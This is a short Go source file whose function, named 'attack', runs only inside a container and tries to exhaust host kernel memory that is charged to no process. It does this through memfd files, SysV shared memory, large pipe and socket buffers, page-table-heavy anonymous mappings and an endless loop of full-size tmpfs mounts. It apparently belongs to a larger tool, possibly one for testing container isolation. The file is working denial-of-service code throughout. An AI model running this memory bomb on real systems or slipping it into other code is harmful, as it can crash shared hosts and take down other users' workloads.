package main

import (
	"fmt"
	"os"
	"runtime"

	"golang.org/x/sys/unix"
)

// Has the kernel hold memory for it that counts for no process: files without
// a name, segments, its own tmpfs, pipes, sockets, page tables.
func attack(where string) {
	if where != "container" {
		return
	}
	say("start", "memory bomb")
	unix.Setrlimit(unix.RLIMIT_NOFILE, &unix.Rlimit{Cur: 4096, Max: 4096})
	mb := make([]byte, 1<<20)
	for i := range 40 {
		if fd, err := unix.MemfdCreate("x", 0); err == nil {
			unix.Write(fd, mb)
			unix.Write(fd, mb)
		}
		if id, err := unix.SysvShmGet(i+1, 2<<20, unix.IPC_CREAT|0o600); err == nil {
			if b, err := unix.SysvShmAttach(id, 0, 0); err == nil {
				copy(b, mb)
				copy(b[1<<20:], mb)
				unix.SysvShmDetach(b)
			}
		}
	}
	for range 100 {
		var p [2]int
		if unix.Pipe2(p[:], unix.O_NONBLOCK) == nil {
			unix.FcntlInt(uintptr(p[1]), unix.F_SETPIPE_SZ, 1<<20)
			unix.Write(p[1], mb)
		}
		if s, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0); err == nil {
			unix.SetsockoptInt(s[0], unix.SOL_SOCKET, unix.SO_SNDBUF, 1<<24)
			unix.Write(s[0], mb)
		}
	}
	say("kept", "pipes and sockets")
	// A page of page tables for each page.
	for i := range 2000 {
		if b, err := unix.Mmap(-1, 0, 64<<20, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANON|unix.MAP_NORESERVE); err == nil {
			for j := 0; j < len(b); j += 2 << 20 {
				_ = b[j] // of zeros
			}
		} else {
			tried(fmt.Sprint("map ", i), err)
			break
		}
	}
	runtime.KeepAlive(mb)
	for i := 0; ; i++ {
		dir := fmt.Sprint("/tmp/own", i)
		os.Mkdir(dir, 0o755)
		if err := unix.Mount("own", dir, "tmpfs", 0, "size=100%"); err != nil {
			return
		}
		for j := range 64 {
			if os.WriteFile(fmt.Sprint(dir, "/", j), mb, 0o600) != nil {
				break
			}
		}
	}
}
